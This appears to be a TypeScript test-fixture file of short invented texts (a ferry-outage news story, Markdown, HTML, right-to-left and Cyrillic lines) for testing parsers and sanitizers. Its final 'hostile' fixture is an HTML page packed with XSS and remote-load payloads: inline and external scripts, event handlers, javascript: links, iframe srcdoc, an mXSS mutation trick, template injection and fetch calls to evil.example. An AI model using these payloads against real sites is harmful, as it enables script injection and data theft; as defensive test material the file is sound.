/** Small texts of our own, each with something that offsets, scripts or parsers stumble over. */
export type Text = { readonly name: string; readonly mimeType: string; readonly words: string };

const NBSP = "\u00A0";

/** Prose with an emoji beyond the first plane, a family joined by zero-width joiners, and no-break spaces. */
export const ferry: Text = {
  name: "ferry.txt",
  mimeType: "text/plain",
  words: [
    "Night ferry stopped for nine hours",
    "The night ferry to Lomsund stayed at its berth for nine hours on Tuesday. The harbour office says a cable was cut on purpose. “Nobody touched our cable,” said Mirja Oksa, who runs the yard next door.",
    `About 1${NBSP}200 passengers waited in the hall 😀. A family 👩‍👩‍👧 slept under the timetable. The ferry company will pay each passenger 40${NBSP}euros, it wrote on Wednesday.`,
    "The harbour office reportedly knew of the weak cable since March. It may replace the cable next week. Nobody touched our cable, the yard repeated on Thursday.",
  ].join("\n\n"),
};

/** Answers the first text; the same statement in other words. */
export const yard: Text = {
  name: "yard.txt",
  mimeType: "text/plain",
  words: [
    "Yard denies it cut the cable",
    "The yard in Lomsund denies that it cut the harbour cable. Its owner, Mirja Oksa, showed reporters a log book. No crew worked near the cable on Tuesday, the log book says.",
    "A cable was cut on purpose, the harbour office repeated. It named no culprit. The town council wants a report by Friday.",
  ].join("\n\n"),
};

/** Markdown with a heading, emphasis, a list and a table. */
export const table: Text = {
  name: "table.md",
  mimeType: "text/markdown",
  words: [
    "# What the outage cost",
    "The council counted the cost of the *outage*. It published a table on Friday.",
    "| Who | Hours | Euros |\n| --- | --- | --- |\n| Ferry company | 9 | 48 000 |\n| Harbour office | 14 | 7 500 |\n| Bakery at the pier | 9 | 610 |",
    "- The bakery asked for help.\n- The council refused.",
  ].join("\n\n"),
};

/** A page as a newspaper puts it out. */
const page: Text = {
  name: "page.html",
  mimeType: "text/html",
  words: `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Council wants a report</title><meta property="og:site_name" content="Pier Gazette"></head>
<body><nav><a href="/">Home</a> <a href="/sport">Sport</a></nav><article><h1>Council wants a report</h1>
<p>The town council wants a <b>report</b> by Friday. Councillor Ilse Brandt called the outage “a disgrace”.</p>
<p>The harbour office promised to answer every question.</p></article></body></html>`,
};

/** One line of Arabic and one of Hebrew between Latin ones. */
export const rightToLeft: Text = {
  name: "two-ways.txt",
  mimeType: "text/plain",
  words: [
    "Voices from the quay",
    "قالت الشركة إن العبارة رقم 41 لم تغادر الميناء يوم الثلاثاء.",
    "הנמל אמר שהכבל נחתך בכוונה בשעה 03:15.",
    "Both lines were read out in the waiting hall.",
  ].join("\n\n"),
};

export const cyrillic: Text = {
  name: "паром.txt",
  mimeType: "text/plain",
  words: [
    "Паром простоял девять часов",
    "Ночной паром простоял у причала девять часов. Служба порта утверждает, что кабель перерезали нарочно. Верфь это отрицает.",
  ].join("\n\n"),
};

export const texts: readonly Text[] = [ferry, yard, table, page, rightToLeft, cyrillic];

/** As a page with bad intentions would come: every way to run, load or send that the formats know. */
export const hostile: Text = {
  name: "hostile.html",
  mimeType: "text/html",
  words: `<!doctype html><html><head><title>Prize <script>window.owned = "title"</script></title><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><link rel="stylesheet" href="https://evil.example/a.css">
<link rel="prefetch" href="https://evil.example/prefetch"><style>@import "https://evil.example/b.css"; p { background: url(https://evil.example/c.png) }</style>
<script>window.owned = "script"; fetch("https://evil.example/fetch")</script><script src="https://evil.example/d.js"></script></head>
<body onload="window.owned='load'"><h1 onmouseover="window.owned='over'">You have won a prize</h1>
<p style="background:url(https://evil.example/e.png)">Read on <img src="https://evil.example/f.png" onerror="window.owned='error'"> to see it.
<a href="javascript:window.owned='link'">Click here for the prize</a>.</p>
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>parent.owned='frame'</script>"></iframe>
<svg onload="window.owned='svg'"><image href="https://evil.example/g.png"/><script>window.owned='svg script'</script></svg>
<object data="https://evil.example/h"></object><embed src="https://evil.example/i"><video src="https://evil.example/j" poster="https://evil.example/k"></video>
<form action="https://evil.example/form"><input autofocus onfocus="window.owned='focus'"><button>Send</button></form>
<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.owned='math'&gt;"></math>
<p>&lt;img src=x onerror="window.owned='text'"&gt; {{constructor.constructor("window.owned='template'")()}}</p></body></html>`,
};
